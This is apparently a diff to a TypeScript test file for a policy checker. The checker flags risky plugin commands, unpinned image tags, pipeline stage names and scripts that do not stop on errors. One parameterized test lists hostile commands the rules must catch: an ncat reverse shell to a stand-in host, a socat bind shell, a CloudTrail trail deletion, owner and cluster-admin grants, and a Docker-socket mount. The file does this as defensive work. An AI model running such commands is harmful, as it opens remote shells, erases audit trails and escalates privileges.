@@ -121,15 +121,130 @@ test('nobody is taken for what they only resemble', () => {
     'curl --keepalive-time 5 -fsS https://shop.example.com/health',
     'git push --tags',
     'kubectl set image deployment/shop shop=registry.example.com/shop:1.4.2',
+    'npx concat -o dist/all.js src/*.js && ffmpeg -f concat -i parts.txt -c copy all.mp4',
+    'npx delete-trailing-spaces src && npm run stop-logging-agent',
+  ]
+  const more = [
+    'ansible-lint roles/owners/tasks/main.yml',
+    'kubectl get clusterrole cluster-admin -o yaml > docs/cluster-administration.md',
+    'cp public-readme.md dist/README.md',
+    'systemctl status docker.socket',
+    './maxtrace --summary',
+    'ncat -z db.internal 5432',
   ]
   const dockerfile = [
-    'FROM registry.example.com/base/node:22.11.0',
+    `FROM registry.example.com/base/node:latest@sha256:${'4e'.repeat(32)}`,
+    'ARG NPM_TOKEN_FILE',
+    'ENV GITHUB_TOKEN_FILE=/run/secrets/github',
     'RUN curl -fsSLo t.tgz https://tools.example.com/t.tgz && echo "4e4e  t.tgz" | sha256sum -c -',
     'RUN apt-get update && apt-get install -y openssh-client && chmod 755 /opt',
     'USER node',
   ]
-  const entity = modelWith('plugin', { commands, dockerfile: dockerfile.join('\n'), env: { TOKEN_FILE: 'token' } })
-  for (const name of names) expect(violated(name, 'plugin', entity), name).toEqual([])
+  const installCommands = ['curl -fsSLo t.tgz sftp://tools.example.com/t.tgz']
+  const changes = { dockerfile: dockerfile.join('\n'), env: { TOKEN_FILE: 'token' }, installCommands }
+  for (const list of [commands, more]) {
+    const entity = modelWith('plugin', { ...changes, commands: list })
+    for (const name of names) expect(violated(name, 'plugin', entity), name).toEqual([])
+  }
+})
+
+test.each([
+  ['advanced-plugin-no-network-shell', 'sleep 5; ncat host.example.com 4444 -e /bin/sh'],
+  ['advanced-plugin-no-network-shell', 'socat TCP-LISTEN:4444,fork EXEC:/bin/sh'],
+  ['advanced-plugin-no-network-listener', 'set -e\nncat --listen 4444'],
+  ['advanced-plugin-keeps-audit-trail', 'aws cloudtrail --region eu-central-1 delete-trail --name main'],
+  ['advanced-plugin-no-public-objects', 'gsutil cp -a public-read dist/* gs://shop'],
+  ['advanced-plugin-no-administrator-grants', 'gcloud projects add-iam-policy-binding shop --role=roles/owner'],
+  ['advanced-plugin-no-cluster-administrators', 'kubectl create clusterrolebinding a --clusterrole cluster-admin'],
+  ['advanced-plugin-no-privileged-containers', 'docker run -v /var/run/docker.sock:/var/run/docker.sock tool:1'],
+  ['advanced-plugin-no-shell-trace', 'set -o xtrace'],
+])('%s finds %j', (rule, command) => {
+  expect(violated('advanced', 'plugin', modelWith('plugin', { commands: [command] }))).toContain(rule)
+})
+
+test('the name of a stage counts by its words and not by their letters', () => {
+  const needs = (...stageNames: string[]) =>
+    violated(
+      'advanced',
+      'pipeline',
+      modelWith('pipeline', { props: { stages: stageNames.map((stageName) => ({ stageName })) } }),
+    )
+  const all = [
+    'standard-pipeline-checks-something',
+    'advanced-pipeline-critical-security-stage',
+    'advanced-pipeline-critical-test-stage',
+    'advanced-pipeline-critical-approval',
+  ]
+  expect(needs('PublishLatest', 'InvalidateCache', 'Checkout', 'DISASTER', 'ApiGateway', 'Navigate')).toEqual(
+    expect.arrayContaining(all),
+  )
+  const rest = (...stageNames: string[]) => needs(...stageNames).filter((rule) => all.includes(rule))
+  expect(rest('UnitTest', 'SAST', 'QualityGate')).toEqual([])
+  expect(rest('unittest', 'container-scan', 'gate')).toEqual([])
+  expect(rest('LATEST_TEST', 'Validate', 'PRE_DAST', 'SignOff')).toEqual([])
+})
+
+describe.each(['starter-plugin-fixed-image-tag', 'standard-plugin-image-fixed'])('%s', (name) => {
+  const digest = `@sha256:${'4e'.repeat(32)}`
+  const found = (baseImage: string | null) =>
+    violated(
+      name.startsWith('starter') ? 'starter' : 'standard',
+      'plugin',
+      modelWith('plugin', { baseImage, criticality: 'low' }),
+    )
+
+  test.each([
+    'node:22.11.0',
+    'host:5000/base/node:22',
+    'node:lts',
+    'python:lambda',
+    'team/latest:1.0',
+    `node${digest}`,
+    `node:latest${digest}`,
+    `host:5000/node${digest}`,
+    'scratch',
+    null,
+  ])('accepts %s', (image) => {
+    expect(found(image)).toEqual([])
+  })
+
+  test.each([
+    'node',
+    'team/node',
+    'host:5000/base/node',
+    'node:latest',
+    'host:5000/node:latest',
+    'node:latest-slim',
+    'latest',
+    '',
+  ])('refuses %j', (image) => {
+    expect(found(image)).toEqual([name])
+  })
+})
+
+test('a Dockerfile may name `latest` only with a digest at each place', () => {
+  const digest = `@sha256:${'4e'.repeat(32)}`
+  const found = (...images: string[]) =>
+    violated(
+      'advanced',
+      'plugin',
+      modelWith('plugin', { dockerfile: `${images.map((each) => `FROM ${each}\n`).join('')}USER node\n` }),
+    )
+  expect(found(`host:5000/node:latest${digest}`, `debian:latest${digest} AS tools`, 'alpine:3.21')).toEqual([])
+  for (const image of ['debian:latest', 'debian:latest AS tools', 'debian:latest-slim', 'host:5000/debian:latest']) {
+    expect(found(`node:latest${digest}`, image), image).toEqual(['advanced-dockerfile-no-latest'])
+    expect(found(image, 'node:22'), image).toEqual(['advanced-dockerfile-no-latest'])
+  }
+})
+
+test('a script of several lines stops at errors however that is written', () => {
+  const found = (first: string) =>
+    violated('standard', 'plugin', modelWith('plugin', { commands: [`${first}\n./build.sh`] }))
+  for (const first of ['set -e', 'set -euo pipefail', 'set -ue', 'set -u -o errexit'])
+    expect(found(first), first).toEqual([])
+  for (const first of ['./reset -e', 'charset -e', 'set -u']) {
+    expect(found(first), first).toEqual(['standard-plugin-commands-stop-at-errors'])
+  }
 })
 
 test('rules and policies have names of their own', () => {
@@ -151,7 +266,7 @@ test('a gate names a rule of the same library that comes earlier', () => {
 })
 
 test('the libraries are as large as they are sold', () => {
-  expect(names.map((name) => libraries[name].length)).toEqual([10, 23, 80])
+  expect(names.map((name) => libraries[name].length)).toEqual([10, 23, 83])
 })
 
 describe('tags', () => {
